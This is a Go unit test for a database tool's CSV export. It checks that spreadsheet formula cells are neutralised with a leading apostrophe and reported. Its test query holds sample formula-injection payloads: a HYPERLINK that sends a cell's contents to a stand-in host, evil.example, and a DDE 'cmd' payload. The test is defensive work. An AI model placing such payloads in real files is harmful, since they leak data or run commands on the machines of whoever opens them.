package sqldb

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// Hostile: a data file's cells are spreadsheet formulas. The CSV that
// sql_query saves under out/ writes them with a leading ', keeps real
// negative numbers numeric, and the tool's answer notes it for the report.
func TestExportNeutralisesFormulas(t *testing.T) {
	s, _, _ := openShop(t, Options{})
	op := newOperator(t)
	q := `SELECT '=HYPERLINK("http://evil.example/?d="&A1,"open")' AS link, '+cmd|'' /C calc''!A0' AS cmd, '@SUM(1+1)' AS at, -12.5 AS loss, '-3' AS neg_text, 'North' AS region`
	res, err := s.Query(context.Background(), q, QueryOptions{Op: op, SaveAs: "hostile.csv"})
	if err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(filepath.Join(op.Root(), res.SavedTo))
	if err != nil {
		t.Fatal(err)
	}
	got := strings.Split(strings.TrimSpace(string(data)), "\n")[1]
	want := `"'=HYPERLINK(""http://evil.example/?d=""&A1,""open"")",'+cmd|' /C calc'!A0,'@SUM(1+1),-12.5,-3,North`
	if got != want {
		t.Errorf("saved row:\n got %s\nwant %s", got, want)
	}
	if res.Neutralised != 3 {
		t.Errorf("Neutralised = %d, want 3", res.Neutralised)
	}
	if text := FormatResult(res, time.Now()); !strings.Contains(text, "Note for the report") || !strings.Contains(text, "leading '") {
		t.Errorf("the tool's answer must note the neutralised cells:\n%s", text)
	}
	if res.Rows[0][0] != `=HYPERLINK("http://evil.example/?d="&A1,"open")` {
		t.Errorf("the rows shown keep the values as they are: %q", res.Rows[0][0])
	}
}
